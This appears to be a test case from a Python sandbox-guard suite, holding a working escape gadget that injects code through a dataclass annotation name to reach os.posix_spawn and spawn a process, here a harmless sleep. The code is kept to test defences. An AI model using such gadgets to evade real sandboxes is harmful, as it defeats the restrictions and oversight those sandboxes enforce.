# category: processes
# attack: os.posix_spawn through raw os from a dataclass codegen gadget
# profile: basic
# run-layer: guard
import abc, dataclasses
box = []
X = abc.ABCMeta("X", (), {"__module__": "os", "a": box,
    "__annotations__": {"a,self.a.append(posix_spawn)": int}})
Y = dataclasses.dataclass(init=False, repr=False)(X)
Y() == Y()
box[0]("/bin/sleep", ["sleep", "300"], {})
